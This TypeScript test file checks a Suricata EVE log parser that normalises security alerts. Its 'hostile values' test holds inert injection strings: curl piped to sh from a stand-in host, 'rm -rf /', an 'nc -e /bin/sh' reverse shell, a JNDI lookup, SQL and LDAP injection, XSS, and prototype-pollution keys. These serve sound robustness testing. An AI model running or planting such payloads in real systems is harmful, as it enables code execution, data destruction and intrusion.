import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import ipaddr from 'ipaddr.js';
import { normalizeRecord } from '../../src/detectors/lib/registry.js';
import { finishes, sampleLine, sampleLines } from './helpers.js';
import { obs, registry, runner } from './json-detector-helpers.js';

const { run, alert: alertOf, context: contextOf } = await runner('suricata');
const reg = await registry();

test('every sample line parses, auto-detected as suricata', () => {
  const lines = sampleLines('suricata', '.jsonl');
  assert.equal(lines.length, 17);
  for (const l of lines) {
    const r = run(l.text, 'auto');
    assert.ok(!('error' in r), `${l.file}:${l.line}: ${JSON.stringify(r)}`);
    assert.equal(r.detector, 'suricata');
  }
});

test('beats alert 1: ET POLICY curl User-Agent Outbound', () => {
  const a = alertOf(sampleLine('suricata', 'beats_eve_alerts_selected.jsonl', 1));
  assert.equal(a.title, 'ET POLICY curl User-Agent Outbound');
  assert.equal(a.time, '2018-10-03T14:42:44.836Z'); // "2018-10-03T14:42:44.836744+0000"
  assert.deepEqual(a.rule, { id: '2013028', name: 'ET POLICY curl User-Agent Outbound', category: 'Attempted Information Leak' });
  assert.deepEqual(a.vendor_severity, { value: '2', scale: 'suricata 1 (high) - 3 (low)' });
  assert.equal(a.severity, 55);
  assert.equal(a.severity_label, 'medium');
  assert.equal(a.action, 'allowed');
  assert.deepEqual(a.src, { ip: '192.168.1.146', port: 32858 });
  assert.deepEqual(a.dst, { ip: '93.184.216.34', port: 80, host: 'example.net' });
  assert.equal(a.url, 'http://example.net/');
  assert.equal(a.domain, 'example.net');
  assert.equal(a.vendor_id, '2191386088856669:2013028:2018-10-03T14:42:44.836744+0000');
  assert.ok(obs(a).includes('domain:example.net:dst'));
  assert.ok(obs(a).includes('url:http://example.net/:url'));
});

test('beats alerts 2 and 3: hostnames, paths with escaped slashes, severity 3', () => {
  const a2 = alertOf(sampleLine('suricata', 'beats_eve_alerts_selected.jsonl', 2));
  assert.equal(a2.time, '2018-10-03T16:45:09.267Z');
  assert.equal(a2.src?.port, 32872);
  assert.equal(a2.domain, 'example.org');
  assert.equal(a2.vendor_id, '49628113637132:2013028:2018-10-03T16:45:09.267308+0000');
  const a3 = alertOf(sampleLine('suricata', 'beats_eve_alerts_selected.jsonl', 3));
  assert.equal(a3.title, 'ET POLICY GNU/Linux APT User-Agent Outbound likely related to package management');
  assert.equal(a3.rule?.id, '2013504');
  assert.equal(a3.rule?.category, 'Not Suspicious Traffic');
  assert.equal(a3.severity_label, 'low');
  assert.deepEqual(a3.dst, { ip: '91.189.91.23', port: 80, host: 'archive.ubuntu.com' });
  assert.equal(a3.url, 'http://archive.ubuntu.com/ubuntu/dists/bionic/InRelease');
});

test('eve_small alert: TLS SNI as domain, severity 1 is high, zone -0400', () => {
  const a = alertOf(sampleLine('suricata', 'eve_small.jsonl', 2));
  assert.equal(a.title, 'ET POLICY Observed IP Lookup Domain (l2 .io in TLS SNI)');
  assert.equal(a.time, '2018-07-05T19:07:20.910Z'); // 15:07:20.910626-0400
  assert.equal(a.rule?.id, '2024833');
  assert.equal(a.rule?.category, 'Potential Corporate Privacy Violation');
  assert.equal(a.severity_label, 'high');
  assert.deepEqual(a.src, { ip: '192.168.86.85', port: 55641 });
  assert.deepEqual(a.dst, { ip: '192.168.156.70', port: 443, host: 'l2.io' });
  assert.equal(a.domain, 'l2.io');
  assert.equal(a.url, undefined);
});

test('non-alert events become context of their own kind', () => {
  const kinds = sampleLines('suricata', '.jsonl').map((l) => {
    const r = run(l.text);
    return 'context' in r ? r.context.map((c) => c.kind).join() : 'alert';
  });
  // eve_6-0_flows (2 flows), beats (3 alerts), eve_small (12 mixed), in file-name order.
  assert.deepEqual(kinds, [
    'alert', 'alert', 'alert',
    'flow', 'flow',
    'flow', 'alert', 'http', 'file', 'dns', 'status', 'tls', 'flow', 'http', 'tls', 'http', 'tls',
  ]);
});

test('context carries its indicators: file hashes, DNS answers, IPv6 canonical, SNI with trailing dot', () => {
  const ctx = (n: number) => {
    const r = run(sampleLine('suricata', 'eve_small.jsonl', n));
    assert.ok('context' in r);
    return r.context[0]!;
  };
  const file = ctx(4);
  assert.equal(file.time, '2018-07-05T19:44:33.222Z');
  assert.ok(obs(file).includes('md5:427b7337ff37eeb24d74f47d8e04cf21:file'));
  assert.ok(obs(file).includes('sha1:313573490192c685e9e53abef25453ed0d5e2aee:file'));
  assert.ok(obs(file).includes('sha256:f610428ebddf6f8cf9e39322e672583c45fcdcf885efad0ab48fd53a3dfc2c4b:file'));
  // The file came from the HTTP server 192.168.86.28:8008 (the event's src), so that is where the URL points.
  assert.ok(obs(file).includes('url:http://192.168.86.28:8008/ssdp/device-desc.xml:url'), obs(file).join(' '));
  const dns = ctx(5);
  assert.ok(obs(dns).includes('domain:clients.l.google.com:dst'));
  assert.ok(obs(dns).includes('ip:175.16.199.1:dns'));
  assert.equal((dns.data.dns as { rrname: string }).rrname, 'clients.l.google.com');
  const tls = ctx(7);
  assert.ok(obs(tls).includes('domain:p33-btmmdns.icloud.com:dst'));
  const flow6 = ctx(8);
  assert.deepEqual(obs(flow6), ['ip:fe80::fada:cff:fedc:87f1:src', 'ip:ff02::1:2:dst']);
  const stats = ctx(6);
  assert.deepEqual(stats.observables, []);
  assert.equal(stats.time, '2018-07-05T19:51:23.009Z');
});

test('vendor_id is stable per event and differs between events', () => {
  const line = sampleLine('suricata', 'beats_eve_alerts_selected.jsonl', 1);
  assert.equal(alertOf(line).vendor_id, alertOf(line).vendor_id);
  const reformatted = JSON.stringify(JSON.parse(line), null, 2); // same event, different whitespace
  assert.equal(alertOf(reformatted).vendor_id, alertOf(line).vendor_id);
  const ids = [1, 2, 3].map((n) => alertOf(sampleLine('suricata', 'beats_eve_alerts_selected.jsonl', n)).vendor_id);
  assert.equal(new Set(ids).size, 3);
  // flow ids beyond 2^53 keep their digits.
  const big = line.replace('"flow_id":2191386088856669', '"flow_id":18446744073709551615');
  assert.match(alertOf(big).vendor_id!, /^18446744073709551615:/);
});

test('documented fields beyond the samples: blocked verdict, files[], email, metadata, ether, direction, target', () => {
  const rec = {
    timestamp: '2024-05-01T10:00:00.000001+0000', flow_id: 1, event_type: 'alert', direction: 'to_client',
    src_ip: '203.0.113.9', src_port: 80, dest_ip: '10.0.0.5', dest_port: 51000, proto: 'TCP',
    ether: { src_mac: '00:11:22:33:44:55', dest_mac: 'AA:BB:CC:DD:EE:FF' },
    alert: { action: 'allowed', gid: 1, signature_id: 2031412, rev: 2, signature: 'ET MALWARE Cobalt Strike Beacon Observed', category: 'A Network Trojan was detected', severity: 1,
      metadata: { malware_family: ['Cobalt_Strike'], signature_severity: ['Major'] }, target: { ip: '10.0.0.5', port: 51000 } },
    verdict: { action: 'drop' },
    http: { hostname: 'evil.example.com', url: '/payload.exe', http_port: 8080 },
    files: [{ filename: '/payload.exe', sha256: 'A'.repeat(64), size: 1234 }, { filename: '/b', md5: 'b'.repeat(32) }],
    email: { from: 'Mallory <m@evil.example.com>', to: ['alice@corp.example.com'], subject: 'invoice' },
  };
  const a = alertOf(JSON.stringify(rec));
  assert.equal(a.action, 'blocked'); // the engine's verdict wins over alert.action
  assert.deepEqual(a.src, { ip: '203.0.113.9', port: 80, host: 'evil.example.com' }); // to_client: server is src
  assert.equal(a.url, 'http://evil.example.com:8080/payload.exe');
  assert.deepEqual(a.file, { name: 'payload.exe', path: '/payload.exe', sha256: 'a'.repeat(64), size: 1234 });
  assert.deepEqual(a.email, { from: 'm@evil.example.com', to: ['alice@corp.example.com'], subject: 'invoice' });
  assert.deepEqual(a.malware, { family: 'Cobalt Strike' });
  assert.deepEqual(a.host, { ip: '10.0.0.5' });
  assert.ok(obs(a).includes('mac:00:11:22:33:44:55:src'));
  assert.ok(obs(a).includes('mac:aa:bb:cc:dd:ee:ff:dst'));
  assert.ok(obs(a).includes(`md5:${'b'.repeat(32)}:file`));
  const dnsAlert = alertOf(JSON.stringify({ ...rec, http: undefined, files: undefined, email: undefined, direction: undefined, dns: { query: [{ rrname: 'C2.Evil.Example.com', rrtype: 'A' }] } }));
  assert.equal(dnsAlert.domain, 'c2.evil.example.com');
});

const base = JSON.parse(sampleLine('suricata', 'beats_eve_alerts_selected.jsonl', 1)) as Record<string, unknown>;
const variant = (patch: (r: Record<string, unknown>) => void): string => {
  const r = structuredClone(base);
  patch(r);
  return JSON.stringify(r);
};
const errorOf = (text: string, hint: string | null = 'suricata'): string => {
  const r = run(text, hint);
  assert.ok('error' in r, `expected an error, got ${JSON.stringify(r).slice(0, 300)}`);
  return r.error;
};

test('malformed records give reasons that name the problem', () => {
  assert.equal(errorOf(variant((r) => delete r.timestamp)), 'missing timestamp');
  assert.equal(errorOf(variant((r) => (r.timestamp = 12))), 'timestamp: unrecognised timestamp "12"');
  assert.equal(errorOf(variant((r) => (r.timestamp = 'soon'))), 'timestamp: unrecognised timestamp "soon"');
  assert.equal(errorOf(variant((r) => (r.alert = 'x'))), 'alert is a string, expected an object');
  assert.equal(errorOf(variant((r) => delete (r.alert as Record<string, unknown>).signature)), 'missing alert.signature');
  assert.equal(errorOf(variant((r) => ((r.alert as Record<string, unknown>).signature_id = 'abc'))), 'alert.signature_id is "abc", expected an integer');
  assert.equal(errorOf(variant((r) => ((r.alert as Record<string, unknown>).severity = [1]))), 'alert.severity is an array, expected an integer');
  assert.equal(errorOf(variant((r) => (r.src_ip = { ip: '1.2.3.4' }))), 'src_ip is an object, expected a string');
  assert.equal(errorOf(variant((r) => (r.http = []))), 'http is an array, expected an object');
  assert.equal(errorOf(variant((r) => (r.event_type = 7))), 'event_type is 7, expected a string');
  assert.equal(errorOf(variant((r) => delete r.event_type)), 'missing event_type');
  assert.match(errorOf(sampleLine('suricata', 'beats_eve_alerts_selected.jsonl', 1).slice(0, 200)), /^suricata expects JSON; not valid JSON/);
  assert.equal(errorOf('[1,2,3]'), 'EVE record must be a JSON object');
  assert.match(errorOf('"just a string"'), /^suricata expects JSON; input is not JSON/); // only { and [ are read as JSON
});

test('hostile values: huge fields, control characters, prototype keys, injection strings stay inert data', () => {
  const huge = alertOf(variant((r) => ((r.alert as Record<string, unknown>).signature = 'A'.repeat(1_048_576))));
  assert.equal(huge.title.length, 4096);
  const junkIp = alertOf(variant((r) => { r.src_ip = '1.2.3.4; rm -rf /'; r.dest_ip = 'x'.repeat(1_048_576); r.src_port = 99999; }));
  assert.equal(junkIp.src?.ip, undefined);
  assert.equal(junkIp.src?.port, undefined);
  assert.equal(junkIp.dst?.ip, undefined);
  const ctl = alertOf(variant((r) => ((r.alert as Record<string, unknown>).signature = 'ET\u0000 evil\u001b[2J\u0007 \u009b31m sig\r\nnext')));
  assert.equal(ctl.title, 'ET evil[2J 31m sig\nnext');
  const injections = [
    "' OR 1=1; DROP TABLE alerts; --",
    '*)(uid=*))(|(uid=*',
    '$(curl http://203.0.113.9/x | sh) `id` && rm -rf / ; | nc -e /bin/sh',
    '{{7*7}} ${jndi:ldap://evil.example.com/a} <script>alert(1)</script>',
  ];
  for (const s of injections) {
    const a = alertOf(variant((r) => { (r.alert as Record<string, unknown>).signature = s; (r.alert as Record<string, unknown>).category = s; }));
    assert.equal(a.title, s);
    assert.equal(a.rule?.category, s);
  }
  const proto = '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},' + sampleLine('suricata', 'beats_eve_alerts_selected.jsonl', 1).slice(1);
  const p = alertOf(proto);
  assert.equal(p.title, 'ET POLICY curl User-Agent Outbound');
  assert.equal(({} as Record<string, unknown>).polluted, undefined);
  const protoAlert = alertOf(variant((r) => { r.alert = JSON.parse('{"__proto__":{"signature":"inherited"},"signature":"own"}'); }));
  assert.equal(protoAlert.title, 'own');
  assert.equal(errorOf(variant((r) => { r.alert = JSON.parse('{"__proto__":{"signature":"inherited"}}'); })), 'missing alert.signature');
});

test('truncated lines, deep nesting and 1 MB records neither throw nor hang', () => {
  const line = sampleLine('suricata', 'eve_small.jsonl', 2);
  for (let cut = 0; cut < line.length; cut += 7) {
    const r = run(line.slice(0, cut), 'auto');
    assert.ok('error' in r || 'alerts' in r || 'context' in r);
  }
  finishes(() => run('['.repeat(100_000) + ']'.repeat(100_000), 'auto'));
  finishes(() => run('{"a":'.repeat(50_000) + '1' + '}'.repeat(50_000), 'auto'));
  finishes(() => run(variant((r) => { (r.http as Record<string, unknown>).url = '/' + '%'.repeat(1_048_576); })));
});

test('property: arbitrary text and arbitrary JSON never make parseRecord or normalizeRecord throw', () => {
  fc.assert(fc.property(fc.string({ maxLength: 300 }), (s) => {
    reg.parseRecord(s, 'auto');
    reg.parseRecord(s, 'suricata');
    normalizeRecord(reg, s, 'suricata');
  }), { numRuns: 500 });
  fc.assert(fc.property(fc.json({ maxDepth: 4 }), (s) => {
    normalizeRecord(reg, s, 'auto');
    normalizeRecord(reg, s, 'suricata');
  }), { numRuns: 500 });
  // EVE-shaped objects with arbitrary values in every known field.
  const anyValue = fc.oneof(fc.string(), fc.integer(), fc.double(), fc.boolean(), fc.constant(null), fc.array(fc.string(), { maxLength: 3 }), fc.dictionary(fc.string(), fc.string(), { maxKeys: 3 }));
  const eveish = fc.record({
    timestamp: fc.oneof(anyValue, fc.constant('2024-01-01T00:00:00Z')),
    event_type: fc.constantFrom('alert', 'flow', 'dns', 'http', 'tls', 'fileinfo', 'weird'),
    src_ip: anyValue, dest_ip: anyValue, src_port: anyValue, dest_port: anyValue, flow_id: anyValue, direction: anyValue, verdict: anyValue,
    alert: fc.oneof(anyValue, fc.record({ signature: anyValue, signature_id: anyValue, severity: anyValue, action: anyValue, category: anyValue, metadata: anyValue, target: anyValue })),
    http: fc.oneof(anyValue, fc.record({ hostname: anyValue, url: anyValue, http_port: anyValue })),
    tls: fc.oneof(anyValue, fc.record({ sni: anyValue })),
    dns: fc.oneof(anyValue, fc.record({ rrname: anyValue, rdata: anyValue, answers: anyValue, query: anyValue, grouped: anyValue })),
    fileinfo: fc.oneof(anyValue, fc.record({ filename: anyValue, md5: anyValue, sha256: anyValue, size: anyValue })),
    files: anyValue, email: fc.oneof(anyValue, fc.record({ from: anyValue, to: anyValue })), ether: anyValue,
  }, { requiredKeys: ['timestamp', 'event_type'] });
  fc.assert(fc.property(eveish, (rec) => {
    const r = normalizeRecord(reg, JSON.stringify(rec), 'suricata');
    assert.ok('error' in r || 'alerts' in r || 'context' in r);
  }), { numRuns: 1000 });
});

test('property: generated valid alerts round-trip their key fields', () => {
  const canonical = (ip: string) => {
    const a = ipaddr.parse(ip);
    const c = a.kind() === 'ipv6' && (a as ipaddr.IPv6).isIPv4MappedAddress() ? (a as ipaddr.IPv6).toIPv4Address().toString() : a.kind() === 'ipv6' ? (a as ipaddr.IPv6).toRFC5952String() : a.toString();
    return c === '0.0.0.0' || c === '::' ? undefined : c; // an unspecified address names no machine: not a fact
  };
  const expectedSeverity: Record<number, number> = { 1: 80, 2: 55, 3: 30 };
  const signature = fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9 ./()_:-]{0,80}[A-Za-z0-9)]$/);
  fc.assert(fc.property(
    fc.oneof(fc.ipV4(), fc.ipV6()), fc.oneof(fc.ipV4(), fc.ipV6()), fc.integer({ min: 0, max: 65535 }), fc.integer({ min: 0, max: 65535 }),
    fc.integer({ min: 1, max: 99_999_999 }), signature, fc.integer({ min: 1, max: 3 }),
    fc.date({ min: new Date('2000-01-01T00:00:00Z'), max: new Date('2099-12-31T23:59:59Z'), noInvalidDate: true }),
    fc.nat({ max: Number.MAX_SAFE_INTEGER }), fc.constantFrom('allowed', 'blocked'),
    (src, dst, sport, dport, sid, sig, sev, date, flow, action) => {
      const ts = date.toISOString().replace('Z', '123+0000'); // EVE style: microseconds, ±hhmm
      const rec = { timestamp: ts, flow_id: flow, event_type: 'alert', src_ip: src, src_port: sport, dest_ip: dst, dest_port: dport, proto: 'TCP',
        alert: { action, gid: 1, signature_id: sid, rev: 1, signature: sig, category: 'Test', severity: sev } };
      const a = alertOf(JSON.stringify(rec));
      assert.equal(a.time, date.toISOString());
      assert.equal(a.title, sig);
      assert.equal(a.rule?.id, String(sid));
      assert.equal(a.src?.ip, canonical(src));
      assert.equal(a.dst?.ip, canonical(dst));
      assert.equal(a.src?.port, sport);
      assert.equal(a.dst?.port, dport);
      assert.equal(a.severity, expectedSeverity[sev]);
      assert.equal(a.action, action);
      assert.equal(a.vendor_id, `${flow}:${sid}:${ts}`);
      if (canonical(src)) assert.ok(a.observables.some((o) => o.type === 'ip' && o.role === 'src' && o.value === canonical(src)));
    },
  ), { numRuns: 300 });
});

test('rule.id is the sid, gid:sid for generators other than 1 (decoder, stream, app-layer events); event_type alert', () => {
  const base = JSON.parse(sampleLine('suricata', 'eve_small.jsonl', 2)) as { alert: Record<string, unknown> };
  assert.equal(alertOf(JSON.stringify(base)).event_type, 'alert');
  assert.equal(alertOf(JSON.stringify(base)).rule?.id, '2024833');
  base.alert.gid = 3;
  assert.equal(alertOf(JSON.stringify(base)).rule?.id, '3:2024833');
});

test('context events carry their canonical fields: session (flow_id), times, server name, file, sensor', () => {
  const ctx = (line: number) => {
    const r = run(sampleLine('suricata', 'eve_small.jsonl', line));
    assert.ok('context' in r, JSON.stringify(r));
    return r.context[0]!;
  };
  const ssh = ctx(1);
  assert.equal(ssh.event_type, 'ssh');
  assert.deepEqual(ssh.src, { ip: '192.168.86.85', port: 55406 });
  assert.deepEqual(ssh.dst, { ip: '192.168.253.112', port: 22 });
  assert.equal(ssh.session_id, '298824096901438');
  const file = ctx(4);
  assert.equal(file.event_type, 'fileinfo');
  assert.deepEqual(file.file, { name: 'device-desc.xml', path: '/ssdp/device-desc.xml', md5: '427b7337ff37eeb24d74f47d8e04cf21', sha1: '313573490192c685e9e53abef25453ed0d5e2aee', sha256: 'f610428ebddf6f8cf9e39322e672583c45fcdcf885efad0ab48fd53a3dfc2c4b', size: 1071 });
  assert.equal(file.url, 'http://192.168.86.28:8008/ssdp/device-desc.xml');
  assert.equal(ctx(5).domain, 'clients.l.google.com');
  const tls = ctx(7);
  assert.equal(tls.domain, 'p33-btmmdns.icloud.com');
  assert.equal(tls.dst?.host, 'p33-btmmdns.icloud.com'); // the SNI's trailing dot dropped
  const flow = ctx(8);
  assert.equal(flow.start, '2018-07-05T19:51:23.453Z');
  assert.equal(flow.end, '2018-07-05T19:51:23.453Z');
  assert.equal(ctx(6).event_type, 'stats');
  const withSensor = { ...(JSON.parse(sampleLine('suricata', 'eve_small.jsonl', 3)) as object), host: 'sensor-dmz-1' };
  assert.deepEqual(contextOf(JSON.stringify(withSensor)).device, { name: 'sensor-dmz-1' });
});

// EVE dhcp and krb5 records as the Suricata EVE format reference documents them (no vendor sample at hand).
test('dhcp: the lease, the client machine, ack/nak as outcome; krb5: the client principal and a refused request', () => {
  const dhcp = contextOf(JSON.stringify({
    timestamp: '2024-03-01T10:00:00.000000+0000', flow_id: 7, event_type: 'dhcp', src_ip: '10.0.0.1', src_port: 67, dest_ip: '10.0.0.57', dest_port: 68, proto: 'UDP',
    dhcp: { type: 'reply', id: 1, client_mac: '00:1b:21:aa:bb:cc', assigned_ip: '10.0.0.57', client_ip: '0.0.0.0', dhcp_type: 'ack', hostname: 'LAPTOP-7', lease_time: 86400 },
  }));
  assert.equal(dhcp.kind, 'dhcp');
  assert.equal(dhcp.assigned_ip, '10.0.0.57');
  assert.deepEqual(dhcp.host, { name: 'LAPTOP-7', mac: '00:1b:21:aa:bb:cc' }); // client_ip 0.0.0.0 is no address
  assert.equal(dhcp.outcome, 'success');
  const krb = (krb5: object) => contextOf(JSON.stringify({ timestamp: '2024-03-01T10:00:00.000000+0000', flow_id: 8, event_type: 'krb5', src_ip: '10.0.0.57', src_port: 50000, dest_ip: '10.0.0.2', dest_port: 88, proto: 'TCP', krb5 }));
  const ok = krb({ msg_type: 'KRB_AS_REQ', cname: 'alice', realm: 'CORP.EXAMPLE', sname: 'krbtgt/CORP.EXAMPLE', encryption: 'aes256-cts-hmac-sha1-96', weak_encryption: false });
  assert.equal(ok.kind, 'auth');
  assert.deepEqual(ok.user, { name: 'alice', domain: 'CORP.EXAMPLE' });
  assert.equal(ok.outcome, undefined);
  assert.deepEqual(krb({ msg_type: 'KRB_AS_REQ', cname: 'bob', realm: '<empty>' }).user, { name: 'bob' });
  const refused = krb({ msg_type: 'KRB_ERROR', cname: '<empty>', realm: '<empty>', failed_request: 'KRB_AS_REQ', error_code: 'KDC_ERR_PREAUTH_REQUIRED' });
  assert.equal(refused.outcome, 'failure');
  assert.equal(refused.user, undefined);
});

test('fileinfo over SMB: a backslash path gives the file name', () => {
  const e = contextOf(JSON.stringify({
    timestamp: '2024-03-01T10:00:00.000000+0000', flow_id: 9, event_type: 'fileinfo', src_ip: '10.0.0.2', src_port: 445, dest_ip: '10.0.0.57', dest_port: 50001, proto: 'TCP', app_proto: 'smb',
    fileinfo: { filename: 'share\\tools\\evil.exe', sha256: 'f610428ebddf6f8cf9e39322e672583c45fcdcf885efad0ab48fd53a3dfc2c4b', size: 10 },
  }));
  assert.equal(e.kind, 'file');
  assert.deepEqual(e.file, { name: 'evil.exe', path: 'share\\tools\\evil.exe', sha256: 'f610428ebddf6f8cf9e39322e672583c45fcdcf885efad0ab48fd53a3dfc2c4b', size: 10 });
});

test('the sensor (EVE "host") is the device of alerts as of context events: never host, never an indicator', () => {
  const withSensor = (line: number) => JSON.stringify({ ...(JSON.parse(sampleLine('suricata', 'eve_small.jsonl', line)) as object), host: 'sensor-dmz-1' });
  const a = alertOf(withSensor(2));
  assert.deepEqual(a.device, { name: 'sensor-dmz-1' });
  assert.deepEqual(a.device, contextOf(withSensor(3)).device, 'the same sensor on alerts and context');
  assert.equal(a.host, undefined, 'the sensor is not what the alert is about');
  assert.ok(!a.observables.some((o) => o.role === 'device' || o.value === 'sensor-dmz-1'), obs(a).join(' '));
  // A record without "host" names no sensor.
  assert.equal(alertOf(sampleLine('suricata', 'eve_small.jsonl', 2)).device, undefined);
});
